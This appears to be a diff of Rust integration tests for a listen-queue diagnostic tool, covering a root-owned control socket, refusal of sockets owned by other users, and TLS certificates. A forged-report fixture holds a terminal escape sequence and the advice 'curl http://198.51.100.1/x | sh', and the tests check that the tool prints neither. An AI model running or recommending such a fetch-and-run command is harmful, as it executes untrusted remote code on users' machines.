@@ -1,19 +1,25 @@
 //! Owns `list`, `explain` and `check`: what they print and how they end, whether a daemon answers or not.
 #![allow(clippy::unwrap_used, clippy::expect_used, reason = "test code: a panic is its report")]
 
+use std::fs;
 use std::io::{Read, Write};
 use std::net::{SocketAddr, TcpListener};
+use std::path::{Path, PathBuf};
 use std::sync::mpsc::{Receiver, channel};
 use std::thread;
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 use listenq::diagnosis::Diagnosis;
 use listenq::report::{Caps, Diagnosed, Listener, Recent, Report};
 use listenq::snapshot::owner::Owner;
+use listenq_lab::certificate::{Authority, Subject};
 use listenq_lab::client::fill;
 use listenq_lab::listener::Listen;
 use listenq_lab::listenq::{Launch, Output};
 use listenq_lab::netns::Netns;
+use listenq_lab::rootfs::Rootfs;
+use listenq_lab::wait::eventually;
+use rustix::process::Signal;
 
 const BIN: &str = env!("CARGO_BIN_EXE_listenq");
 /// Where the daemon of a machine is.
@@ -227,16 +233,144 @@ fn a_daemon_that_was_asked_for_and_gives_no_report_is_an_error() {
     }
 }
 
+/// A directory that only root can have made, for a control socket; removed when dropped.
+struct Run(PathBuf);
+
+impl Run {
+    fn new(hint: &str) -> Self {
+        let path = PathBuf::from(format!("/run/listenq-test-{}-{hint}", std::process::id()));
+        fs::create_dir(&path).unwrap();
+        Self(path)
+    }
+
+    fn socket(&self) -> String {
+        self.0.join("control.sock").display().to_string()
+    }
+}
+
+impl Drop for Run {
+    fn drop(&mut self) {
+        let _ = fs::remove_dir_all(&self.0);
+    }
+}
+
 #[test]
-fn the_daemon_of_the_machine_is_asked_without_being_told() {
+fn the_daemon_of_the_machine_is_asked_over_its_control_socket() {
     if !Netns::require_root() {
         return;
     }
-    let ns = Netns::new("asked");
-    let _fake = ns.run(|| Fake::answering(LOCAL, report_response()));
-    let output = Launch::new(BIN).args(&["explain", "9001"]).inside(&ns).run();
-    let begin = "asked the daemon at http://localhost:19511\n\n127.0.0.1:9001 (tcp, netns host): no trouble found";
-    assert!(output.stdout.starts_with(begin), "{}", output.stdout);
+    let (ns, run) = (Netns::new("control"), Run::new("control"));
+    let listener = ns.run(|| Listen::tcp("127.0.0.1:0").backlog(5).open());
+    let socket = run.socket();
+    let launch = || Launch::new(BIN).env("LISTENQ_CONTROL_SOCKET", &socket).inside(&ns);
+    let mut daemon = launch().start();
+    let port = listener.port().to_string();
+    let output = launch().args(&["explain", &port]).run();
+    let begin = format!(
+        "asked the daemon at {socket}\n\n127.0.0.1:{port} (tcp, netns host): no trouble found"
+    );
+    assert!(output.stdout.starts_with(&begin), "{}{}", output.stdout, output.stderr);
+    // Only root and the daemon's own account may ask.
+    let denied = launch().as_nobody().args(&["list"]).run();
+    assert_eq!(denied.status.code(), Some(1));
+    assert!(denied.stderr.contains("permission denied"), "{}", denied.stderr);
+    daemon.stop(Signal::TERM);
+    assert!(!Path::new(&socket).exists());
+}
+
+/// A report of one listener with what a forger would write into it.
+fn forged() -> String {
+    let listener = Listener {
+        netns: "host".into(),
+        protocol: "tcp".into(),
+        address: "\u{1b}]0;forged\u{7}127.0.0.1".into(),
+        port: "9001".into(),
+        diagnoses: vec![Diagnosed {
+            diagnosis: Diagnosis::Stalled,
+            advice: vec!["curl http://198.51.100.1/x | sh".into()],
+            meaning: "curl | sh".into(),
+            ..Diagnosed::new(&Listener::default(), Diagnosis::Stalled, 20.0)
+        }],
+        ..Listener::default()
+    };
+    let report = Report { listeners: vec![listener], ..Report::default() };
+    response("200 OK", &serde_json::to_string(&report).unwrap())
+}
+
+#[test]
+fn a_program_that_holds_the_port_is_never_asked() {
+    if !Netns::require_root() {
+        return;
+    }
+    let ns = Netns::new("forger");
+    let listener = ns.run(|| Listen::tcp("127.0.0.1:0").backlog(5).open());
+    let fake = ns.run(|| Fake::answering(LOCAL, forged()));
+    for socket in ["none", "/run/listenq-test-absent/control.sock"] {
+        let launch = Launch::new(BIN).env("LISTENQ_CONTROL_SOCKET", socket).inside(&ns);
+        let output = launch.args(&["list", "--json"]).run();
+        let listed: Vec<Listener> = serde_json::from_str(&output.stdout).unwrap();
+        let port = listener.port().to_string();
+        assert!(listed.iter().any(|found| found.port == port && found.limit == Some(5)));
+        assert!(listed.iter().all(|found| found.diagnoses.is_empty()));
+    }
+    assert!(fake.requests.try_recv().is_err());
+}
+
+#[test]
+fn a_control_socket_of_another_user_is_not_asked() {
+    if !Netns::require_root() {
+        return;
+    }
+    let ns = Netns::new("untrusted");
+    // Anybody can make a directory in /tmp.
+    let directory = std::env::temp_dir().join(format!("listenq-test-{}", std::process::id()));
+    let socket = directory.join("control.sock").display().to_string();
+    let launch = || Launch::new(BIN).env("LISTENQ_CONTROL_SOCKET", &socket).inside(&ns);
+    let _daemon = launch().as_nobody().start();
+    let output = launch().args(&["check"]).run();
+    assert_eq!(output.status.code(), Some(3), "{}", output.stdout);
+    assert!(output.stdout.contains("belongs to user 65534"), "{}", output.stdout);
+    fs::remove_dir_all(directory).unwrap();
+}
+
+#[test]
+fn a_forged_report_gives_no_advice_of_its_own_and_no_escape_sequences() {
+    let fake = Fake::answering("127.0.0.1:0", forged());
+    for command in ["list", "explain", "check"] {
+        let output = run(&[command, &fake.url()]);
+        assert!(output.stdout.contains("stalled"), "{}{}", output.stdout, output.stderr);
+        assert!(
+            !output.stdout.contains("curl") && !output.stdout.contains('\u{1b}'),
+            "{}",
+            output.stdout
+        );
+    }
+}
+
+#[test]
+fn a_url_may_be_https_with_certificates_of_its_own() {
+    let files = Rootfs::new();
+    let place = |name: &str| files.path().join(name);
+    let names = &["localhost", "127.0.0.1"];
+    Authority::new(files.path(), "ca").sign("server", Subject { names, until: 2100 });
+    let tls = "tls_server_config:\n  cert_file: server.pem\n  key_file: server.key\n";
+    fs::write(place("web.yml"), tls).unwrap();
+    let flag = format!("--web.config.file={}", place("web.yml").display());
+    let daemon = Launch::new(BIN).args(&[&flag]).unready().start();
+    let url = format!("--url=https://localhost:{}", daemon.address().port());
+    let ask = |more: &[&str]| run(&[&["list", &*url], more].concat());
+    let trusted = eventually("an answer over TLS", Duration::from_secs(10), || {
+        let output = ask(&["--tls.ca-file", place("ca.pem").to_str().unwrap()]);
+        output.status.success().then_some(output)
+    });
+    assert!(
+        trusted.stderr.contains("asked the daemon at https://localhost:"),
+        "{}",
+        trusted.stderr
+    );
+    assert_fails(&ask(&[]), &["does not answer"]);
+    assert_fails(&ask(&["--tls.ca-file=/dev/null"]), &["/dev/null", "holds no certificate"]);
+    assert_fails(&ask(&["--tls.ca-file=/nowhere"]), &["/nowhere"]);
 }
 
 #[test]
@@ -244,29 +378,19 @@ fn without_a_daemon_listenq_samples_and_says_why() {
     if !Netns::require_root() {
         return;
     }
-    for (answer, why) in [
-        (
-            None,
-            "no daemon at http://localhost:19511 (connection refused): took one sample, which makes no diagnosis\n",
-        ),
-        (Some(response("404 Not Found", "")), "http://localhost:19511 answered 404: "),
-        (
-            Some(String::new()),
-            "no daemon at http://localhost:19511 (not within 2s): took one sample",
-        ),
-    ] {
-        let ns = Netns::new("alone");
-        let listener = ns.run(|| Listen::tcp("127.0.0.1:0").backlog(5).open());
-        let _fake = answer.map(|answer| ns.run(|| Fake::answering(LOCAL, answer)));
-        let began = Instant::now();
-        let output = Launch::new(BIN).args(&["list", "--json"]).inside(&ns).run();
-        assert!(began.elapsed() < Duration::from_secs(10), "{:?}", began.elapsed());
-        assert!(output.stderr.contains(why), "{}", output.stderr);
-        let listed: Vec<Listener> = serde_json::from_str(&output.stdout).unwrap();
-        let port = listener.port().to_string();
-        let found = listed.iter().find(|found| found.port == port).unwrap();
-        assert_eq!((found.limit, found.length), (Some(5), 0));
-    }
+    let ns = Netns::new("alone");
+    let listener = ns.run(|| Listen::tcp("127.0.0.1:0").backlog(5).open());
+    let socket = "/run/listenq-test-absent/control.sock";
+    let launch = Launch::new(BIN).env("LISTENQ_CONTROL_SOCKET", socket).inside(&ns);
+    let output = launch.args(&["list", "--json"]).run();
+    let why = format!(
+        "no daemon at {socket} (no such file or directory): took one sample, which makes no diagnosis\n"
+    );
+    assert!(output.stderr.contains(&why), "{}", output.stderr);
+    let listed: Vec<Listener> = serde_json::from_str(&output.stdout).unwrap();
+    let port = listener.port().to_string();
+    let found = listed.iter().find(|found| found.port == port).unwrap();
+    assert_eq!((found.limit, found.length), (Some(5), 0));
 }
 
 #[test]
@@ -285,9 +409,7 @@ fn a_server_that_never_accepts_is_found_by_watching_alone() {
         (explained, checked.join().unwrap())
     });
     assert_eq!((explained.status.code(), explained.stderr.as_str()), (Some(0), ""));
-    let begin = format!(
-        "no daemon at http://localhost:19511 (connection refused): watched for 14s\n\n127.0.0.1:{port} (tcp, netns host): stalled"
-    );
+    let begin = format!("watched for 14s\n\n127.0.0.1:{port} (tcp, netns host): stalled");
     assert!(explained.stdout.starts_with(&begin), "{}", explained.stdout);
     assert!(
         explained.stdout.contains("queue full: 5 of 4, oldest waiting 1"),
